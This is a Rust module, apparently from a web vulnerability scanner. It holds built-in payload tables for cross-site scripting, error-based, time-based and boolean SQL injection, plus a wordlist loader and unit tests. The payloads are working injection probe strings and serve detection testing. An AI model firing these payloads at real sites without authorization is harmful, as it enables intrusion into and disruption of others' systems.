use std::fs;
use std::io::BufRead;
use std::path::Path;

use log::warn;

/// Built-in payload tables, one per detection category. External wordlists
/// can override the XSS and SQLi lists; these defaults keep the engine
/// usable with nothing on disk.
pub const XSS_PAYLOADS: &[&str] = &[
    r#"<script>alert(1)</script>"#,
    r#"<img src=x onerror=alert(1)>"#,
    r#"<svg/onload=alert(1)>"#,
    r#""><script>alert(1)</script>"#,
    r#"'><script>alert(1)</script>"#,
    r#"<body onload=alert(1)>"#,
    r#"javascript:alert(1)"#,
    r#"" onmouseover="alert(1)"#,
    r#"<iframe src="javascript:alert(1)">"#,
    r#"<script>prompt(1)</script>"#,
    r#"</title><script>alert(1)</script>"#,
    r#"<details open ontoggle=alert(1)>"#,
];

pub const SQLI_ERROR_PAYLOADS: &[&str] = &[
    r#"'"#,
    r#"""#,
    r#"')"#,
    r#"';"#,
    r#"' OR '1'='1"#,
    r#"' OR '1'='1'--"#,
    r#"" OR "1"="1"#,
    r#"' UNION SELECT NULL--"#,
    r#"' UNION SELECT NULL,NULL,NULL--"#,
    r#"' AND EXTRACTVALUE(1,CONCAT(0x7e,(SELECT version())))--"#,
    r#"1 AND (SELECT 1 FROM dual)--"#,
    r#"'/**/OR/**/1=1--"#,
    r#"%27%20OR%20%271%27%3D%271"#,
    r#"1'"#,
    r#"\'"#,
];

pub const SQLI_TIME_PAYLOADS: &[&str] = &[
    r#"' OR SLEEP(5)--"#,
    r#"'; SELECT pg_sleep(5)--"#,
    r#"'; WAITFOR DELAY '0:0:5'--"#,
    r#"' AND SLEEP(5)--"#,
    r#"1 OR SLEEP(5)"#,
    r#"' AND BENCHMARK(5000000,MD5(1))--"#,
    r#"' || pg_sleep(5)--"#,
    r#"1); WAITFOR DELAY '0:0:5'--"#,
];

/// True/false condition pairs for the boolean-differential strategy. Each
/// pair must differ only in the truth of the injected condition.
pub const SQLI_BOOLEAN_PAIRS: &[(&str, &str)] = &[
    (r#"' AND '1'='1' -- "#, r#"' AND '1'='2' -- "#),
    (r#"" AND "1"="1" -- "#, r#"" AND "1"="2" -- "#),
    (r#" AND 1=1"#, r#" AND 1=2"#),
    (r#"' AND 1=1-- "#, r#"' AND 1=2-- "#),
];

#[derive(Debug, Clone)]
pub struct BooleanPair {
    pub true_payload: String,
    pub false_payload: String,
}

/// Named payload sequences per detection category, sourced externally or
/// from the built-in tables.
#[derive(Debug, Clone)]
pub struct PayloadSet {
    pub xss: Vec<String>,
    pub sqli_error: Vec<String>,
    pub sqli_time: Vec<String>,
    pub sqli_boolean: Vec<BooleanPair>,
}

impl Default for PayloadSet {
    fn default() -> Self {
        Self::builtin()
    }
}

impl PayloadSet {
    /// Payload set backed entirely by the built-in tables.
    pub fn builtin() -> Self {
        Self {
            xss: XSS_PAYLOADS.iter().map(|s| s.to_string()).collect(),
            sqli_error: SQLI_ERROR_PAYLOADS.iter().map(|s| s.to_string()).collect(),
            sqli_time: SQLI_TIME_PAYLOADS.iter().map(|s| s.to_string()).collect(),
            sqli_boolean: SQLI_BOOLEAN_PAIRS
                .iter()
                .map(|(t, f)| BooleanPair {
                    true_payload: t.to_string(),
                    false_payload: f.to_string(),
                })
                .collect(),
        }
    }

    /// Loads payload lists from custom file paths. A missing or empty file
    /// falls back to the built-in table for that category.
    pub fn load_from_paths(
        xss_path: Option<&str>,
        sqli_error_path: Option<&str>,
        sqli_time_path: Option<&str>,
    ) -> Self {
        let mut set = Self::builtin();

        if let Some(path) = xss_path {
            let loaded = load_list_from_file(path);
            if loaded.is_empty() {
                warn!("no XSS payloads loaded from {}, keeping built-ins", path);
            } else {
                set.xss = loaded;
            }
        }

        if let Some(path) = sqli_error_path {
            let loaded = load_list_from_file(path);
            if loaded.is_empty() {
                warn!("no SQLi error payloads loaded from {}, keeping built-ins", path);
            } else {
                set.sqli_error = loaded;
            }
        }

        if let Some(path) = sqli_time_path {
            let loaded = load_list_from_file(path);
            if loaded.is_empty() {
                warn!("no SQLi time payloads loaded from {}, keeping built-ins", path);
            } else {
                set.sqli_time = loaded;
            }
        }

        set
    }

    pub fn payload_count(&self) -> usize {
        self.xss.len() + self.sqli_error.len() + self.sqli_time.len() + self.sqli_boolean.len() * 2
    }
}

/// Loads lines from a file, skipping empty lines and comments.
pub fn load_list_from_file(path: &str) -> Vec<String> {
    let path = Path::new(path);
    let file = match fs::File::open(path) {
        Ok(f) => f,
        Err(e) => {
            warn!("failed to open payload file {:?}: {}", path, e);
            return Vec::new();
        }
    };
    let reader = std::io::BufReader::new(file);
    reader
        .lines()
        .filter_map(|line| line.ok())
        .map(|s| s.trim().to_string())
        .filter(|s| !s.is_empty() && !s.starts_with('#'))
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::io::Write;
    use tempfile::NamedTempFile;

    #[test]
    fn test_builtin_categories_populated() {
        let set = PayloadSet::builtin();
        assert!(!set.xss.is_empty());
        assert!(!set.sqli_error.is_empty());
        assert!(!set.sqli_time.is_empty());
        assert!(!set.sqli_boolean.is_empty());
    }

    #[test]
    fn test_time_payloads_carry_delay_functions() {
        for payload in SQLI_TIME_PAYLOADS {
            let lower = payload.to_lowercase();
            assert!(
                lower.contains("sleep") || lower.contains("waitfor") || lower.contains("benchmark"),
                "{} has no delay function",
                payload
            );
        }
    }

    #[test]
    fn test_boolean_pairs_differ() {
        for (t, f) in SQLI_BOOLEAN_PAIRS {
            assert_ne!(t, f);
        }
    }

    #[test]
    fn test_load_from_file_overrides_builtins() {
        let mut file = NamedTempFile::new().unwrap();
        writeln!(file, "# comment").unwrap();
        writeln!(file, "<script>custom()</script>").unwrap();
        writeln!(file).unwrap();
        let set = PayloadSet::load_from_paths(Some(file.path().to_str().unwrap()), None, None);
        assert_eq!(set.xss, vec!["<script>custom()</script>".to_string()]);
        // Other categories keep built-ins
        assert_eq!(set.sqli_error.len(), SQLI_ERROR_PAYLOADS.len());
    }

    #[test]
    fn test_missing_file_falls_back() {
        let set = PayloadSet::load_from_paths(Some("/nonexistent/xss.txt"), None, None);
        assert_eq!(set.xss.len(), XSS_PAYLOADS.len());
    }
}
